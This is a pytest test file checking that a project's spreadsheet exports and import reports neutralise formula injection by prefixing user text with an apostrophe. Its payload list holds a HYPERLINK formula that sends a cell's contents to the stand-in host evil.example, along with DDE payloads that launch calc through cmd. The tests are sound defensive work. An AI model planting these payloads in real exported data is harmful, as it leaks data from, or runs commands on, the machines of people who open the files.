"""Exports and import reports never hand a spreadsheet a formula typed in by a user."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from fdoctor.core.spreadsheet import neutralise
from fdoctor.imports.files import build_report_xlsx, report_csv
from fdoctor.reports.workload import WorkloadTable, build_workload_xlsx

pytestmark = pytest.mark.db

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_start_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["身份证号码不正确", "", "A=1", 5, -3, 2.5, None])
def test_other_values_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def _problems() -> list[tuple[int, str, str]]:
    return [(i + 2, text, text) for i, text in enumerate(DANGEROUS)]


def test_import_report_xlsx_holds_no_formula() -> None:
    book = load_workbook(io.BytesIO(build_report_xlsx(_problems())))
    sheet = book.active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(DANGEROUS)
    for row, text in zip(rows, DANGEROUS, strict=True):
        for cell in row[1:]:
            assert cell.data_type == "s", cell.value
            # (the xlsx format keeps a carriage return as a line feed)
            assert cell.value == "'" + text.replace("\r", "\n")


def test_import_report_csv_holds_no_formula() -> None:
    text = report_csv(_problems()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[1] for r in rows] == ["'" + t for t in DANGEROUS]
    assert [r[2] for r in rows] == ["'" + t for t in DANGEROUS]


def test_export_keeps_numbers_as_numbers_and_names_as_text() -> None:
    table = WorkloadTable(
        title="=1+1 工作量报表",
        period="2026-10",
        types=[("followup", "随访")],
        rows=[("=cmd|' /C calc'!A0", "@一队", [-3], -3)],
        totals=[-3],
        total=-3,
    )
    sheet = load_workbook(io.BytesIO(build_workload_xlsx(table))).active
    assert sheet is not None
    assert sheet["A1"].value == "'=1+1 工作量报表" and sheet["A1"].data_type == "s"
    assert sheet["A3"].value == "'=cmd|' /C calc'!A0"
    assert sheet["B3"].value == "'@一队"
    assert sheet["C3"].value == -3 and sheet["C3"].data_type == "n"
    assert sheet["D4"].value == -3
